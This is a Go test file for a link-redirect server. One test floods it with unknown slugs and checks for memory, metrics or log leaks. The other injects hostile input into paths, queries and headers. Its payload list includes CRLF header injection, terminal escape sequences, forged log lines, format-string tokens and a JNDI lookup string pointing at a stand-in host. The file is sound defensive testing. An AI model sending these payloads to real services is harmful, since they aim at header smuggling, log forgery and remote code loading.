package redirect

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"runtime"
	"strings"
	"testing"

	"github.com/prometheus/client_golang/prometheus/testutil"
)

// TestHostileSlugsLeaveNothingBehind asks for slugs that no link has, by the
// hundred thousand: no series, no record and no memory are left of them.
func TestHostileSlugsLeaveNothingBehind(t *testing.T) {
	v := startVictim(t, nil)
	series := func() int {
		n, err := testutil.GatherAndCount(v.registry)
		if err != nil {
			t.Fatal(err)
		}
		return n
	}
	heap := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	random := rand.New(rand.NewPCG(*hostileSeed, 1))
	conn, err := net.Dial("tcp", v.address())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	reader := bufio.NewReaderSize(conn, 64<<10)
	ask := func(count int) {
		for asked := 0; asked < count; {
			var batch bytes.Buffer
			n := min(100, count-asked)
			for range n {
				fmt.Fprintf(&batch, "GET /%s%x?%x=1 HTTP/1.1\r\nHost: t%x\r\nX-Forwarded-For: %d.%d.1.1\r\n\r\n", []string{"", "t/", "%2e", "a/b/"}[random.IntN(4)],
					random.Uint64(), random.Uint32(), random.Uint32(), random.IntN(223), random.IntN(255))
			}
			if _, err := conn.Write(batch.Bytes()); err != nil {
				t.Fatal(err)
			}
			for range n {
				response, err := http.ReadResponse(reader, nil)
				if err != nil {
					t.Fatal(err)
				}
				if _, err := io.Copy(io.Discard, response.Body); err != nil {
					t.Fatal(err)
				}
				if response.StatusCode != http.StatusNotFound && response.StatusCode != http.StatusOK {
					t.Fatalf("a slug is answered %s", response.Status)
				}
			}
			asked += n
		}
	}
	ask(1000)
	before, seriesBefore := heap(), series()
	ask(*hostileSlugs)
	if after := heap(); after > before+4<<20 {
		t.Errorf("%d slugs left %d bytes behind", *hostileSlugs, after-before)
	}
	if after := series(); after != seriesBefore {
		t.Errorf("%d series are %d after it", seriesBefore, after)
	}
	if n := len(v.tracker.log.records); n != 0 {
		t.Errorf("%d slugs that no link has were recorded", n)
	}
	if lines := strings.Count(v.log.String(), "\n"); lines > 0 {
		t.Errorf("%d log lines", lines)
	}
}

// TestHostileBytesReachNoLogOrHeader puts line breaks, terminal sequences and fake
// log lines wherever a client may write.
func TestHostileBytesReachNoLogOrHeader(t *testing.T) {
	v := startVictim(t, nil)
	payloads := []string{
		"a\r\nSet-Cookie: evil=1", "a\nX-Evil: 1", "a\rX-Evil: 1", "a\x1b[31mred\x1b[0m", "a\x1b]0;title\x07", "a\x00b", "a\x7f\x08\x08",
		"time=2027-01-10T09:00:00.000Z level=ERROR msg=evil", "a\u2028b\u2029c\u0085", "a\xc2\x9b31m", "${jndi:ldap://evil.example/a}", "%s%n%p",
		"a%0d%0aSet-Cookie:%20evil=1", "a%250d%250aX-Evil:1", "a%E5%98%8A%E5%98%8DX-Evil:1", "a%00%1b[31m",
	}
	for _, payload := range payloads {
		for _, request := range []string{
			"GET /" + payload + " HTTP/1.1\r\nHost: t\r\n\r\n",
			"GET /k3VbQ9xT?sub1=" + payload + "&sub5=" + payload + " HTTP/1.1\r\nHost: t\r\n\r\n",
			"GET /k3VbQ9xT?" + payload + "=" + payload + " HTTP/1.1\r\nHost: t\r\n\r\n",
			"GET /k3VbQ9xT?u=https://shop.example/" + payload + " HTTP/1.1\r\nHost: t\r\n\r\n",
			clickLine + "User-Agent: " + payload + "\r\n\r\n", clickLine + "Referer: https://" + payload + "/\r\n\r\n",
			clickLine + "Accept-Language: " + payload + "\r\n\r\n", clickLine + "X-Forwarded-For: " + payload + "\r\n\r\n",
			clickLine + payload + ": x\r\n\r\n", "GET /k3VbQ9xT HTTP/1.1\r\nHost: " + payload + "\r\n\r\n", payload + " /k3VbQ9xT HTTP/1.1\r\nHost: t\r\n\r\n",
		} {
			answer := v.exchange(t, request)
			for line := range strings.SplitSeq(answer, "\r\n") {
				if name, _, _ := strings.Cut(strings.ToLower(line), ":"); name == "set-cookie" || name == "x-evil" {
					t.Errorf("%q is answered with the header %q", request, line)
				}
			}
			head, _, _ := strings.Cut(answer, "\r\n\r\n")
			if at := strings.IndexFunc(strings.ReplaceAll(head, "\r\n", ""), func(r rune) bool { return r < ' ' || r >= 0x7f }); at >= 0 {
				t.Errorf("%q is answered with the header bytes %q", request, head)
			}
		}
	}
	for line := range strings.Lines(v.log.String()) {
		if !strings.HasPrefix(line, "time=20") || strings.Contains(line, "level=ERROR") && !strings.Contains(line, `"`) {
			t.Errorf("a log line begins with %q", line)
		}
		if strings.ContainsFunc(strings.TrimSuffix(line, "\n"), func(r rune) bool { return r < ' ' || r == 0x7f || r == 0x9b || r == '\u2028' || r == '\u2029' }) {
			t.Errorf("a log line holds %q", line)
		}
	}
	if n := v.panics(t); n != 0 {
		t.Errorf("%v panics", n)
	}
}
